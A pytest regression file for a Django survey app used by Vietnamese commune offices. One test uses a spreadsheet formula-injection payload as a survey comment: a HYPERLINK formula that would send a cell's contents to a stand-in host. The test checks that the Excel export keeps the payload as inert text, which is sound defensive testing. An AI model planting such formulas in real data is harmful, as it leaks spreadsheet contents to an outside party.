"""What a second reading of the surveys app found, each kept from coming back."""

import io

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.core.management import call_command
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from cchc.communes.scoping import commune_scope
from cchc.surveys.actions import EditCampaign
from cchc.surveys.models import Response, SurveyTemplate


def stored(campaign) -> int:
    with commune_scope(campaign.commune):
        return Response.objects.filter(campaign=campaign).count()


def test_a_comment_that_looks_like_a_formula_stays_text_in_the_offices_workbook(
    client, office_a, commune_a, make_campaign, answer
):
    campaign = make_campaign(commune_a, title="Công thức")
    answer(campaign, {"1.1": 5}, comment='=HYPERLINK("http://x.example/?"&B2,"Xem")')
    client.force_login(office_a)
    book = load_workbook(io.BytesIO(client.get(reverse("cchc_surveys_export", args=[campaign.pk, "xlsx"])).content))
    cells = [cell for row in book.worksheets[0].iter_rows() for cell in row if str(cell.value).startswith("=")]
    assert [(cell.value, cell.data_type) for cell in cells] == [('=HYPERLINK("http://x.example/?"&B2,"Xem")', "s")]


def test_a_rounds_questionnaire_cannot_change_once_forms_are_in(commune_a, office_a, make_campaign, answer):
    campaign = make_campaign(commune_a, title="Đổi mẫu")
    other = SurveyTemplate.objects.exclude(pk=campaign.template_id).first()
    with commune_scope(commune_a):
        campaign.template = other
        EditCampaign(campaign, user=office_a).check()  # no form yet: allowed
        campaign.refresh_from_db()
    answer(campaign, {"1.1": 4})
    campaign.template = other
    with commune_scope(commune_a), pytest.raises(PermissionDenied):
        EditCampaign(campaign, user=office_a).check()


def test_the_same_forms_sent_again_in_a_new_file_are_not_stored_twice(commune_a, tmp_path):
    first = tmp_path / "dot-1.csv"
    first.write_text("1.1,2.1,ý kiến\n5,4,\n4,4,\n4,4,\n", encoding="utf-8")
    call_command("import_survey_responses", str(first), "--commune", commune_a.slug, "--campaign", "Gửi lại")
    # The province sends the file again, sorted otherwise, with one more form and a new column.
    again = tmp_path / "dot-1-bo-sung.csv"
    again.write_text("STT,2.1,1.1,ý kiến\n1,4,4,\n2,4,5,\n3,1,2,Mới\n4,4,4,\n", encoding="utf-8")
    out = io.StringIO()
    call_command(
        "import_survey_responses", str(again), "--commune", commune_a.slug, "--campaign", "Gửi lại", stdout=out
    )
    assert "Đã lưu 1 phiếu mới; 3 phiếu đã có" in out.getvalue()
    with commune_scope(commune_a):
        assert Response.objects.filter(campaign__title="Gửi lại").count() == 4  # two alike forms stay two


def test_an_export_imported_back_into_its_own_round_adds_nothing(
    client, office_a, commune_a, make_campaign, answer, tmp_path
):
    campaign = make_campaign(commune_a, title="Xuất rồi nhập")
    answer(campaign, {"1.1": 5})
    answer(campaign, {"1.1": 5})
    client.force_login(office_a)
    path = tmp_path / "xuat.xlsx"
    path.write_bytes(client.get(reverse("cchc_surveys_export", args=[campaign.pk, "xlsx"])).content)
    call_command("import_survey_responses", str(path), "--commune", commune_a.slug, "--campaign", "Xuất rồi nhập")
    assert stored(campaign) == 2


def test_overlong_text_in_a_typed_form_is_refused_in_vietnamese_not_a_server_error(commune_a, make_campaign, answer):
    campaign = make_campaign(commune_a, title="Dài")
    with pytest.raises(ValidationError) as refused:
        answer(campaign, {"1.1": 5}, consent=True, contact_name="A" * 500, contact_phone="0" * 80, comment="x" * 5000)
    assert set(refused.value.message_dict) == {"comment", "contact_name", "contact_phone"}
    assert "dài quá" in refused.value.message_dict["comment"][0]
    assert stored(campaign) == 0


@pytest.mark.parametrize("query", ["?den=31/12/9999", "?tu=0001-01-01", "?tu=2026-13-40", "?tu=" + "9" * 300])
def test_the_results_page_ignores_days_it_cannot_use(client, office_a, commune_a, make_campaign, query):
    campaign = make_campaign(commune_a, title="Ngày lạ")
    client.force_login(office_a)
    assert client.get(reverse("cchc_surveys_results", args=[campaign.pk]) + query).status_code == 200


def test_a_villagers_form_leaves_the_communes_cached_pages_cached(
    commune_a, make_campaign, answer, settings, tmp_path, django_capture_on_commit_callbacks
):
    from django.core.cache import caches

    settings.PAGE_CACHE_ENABLED = True
    settings.PAGE_CACHE_GENERATIONS_DIR = tmp_path / "generations"
    caches["pages"].clear()
    host = {"HTTP_HOST": "dinh-bien.localhost"}
    Client().get("/trang-chua-co/", **host)  # the process learns the host's commune
    Client().get("/", **host)
    assert Client().get("/", **host)["X-Cache"] == "HIT"
    campaign = make_campaign(commune_a, title="Bộ đệm")
    Client().get("/", **host)  # the home now invites to the open round
    with django_capture_on_commit_callbacks(execute=True):
        answer(campaign, {"1.1": 5})
    assert Client().get("/", **host)["X-Cache"] == "HIT"
    caches["pages"].clear()
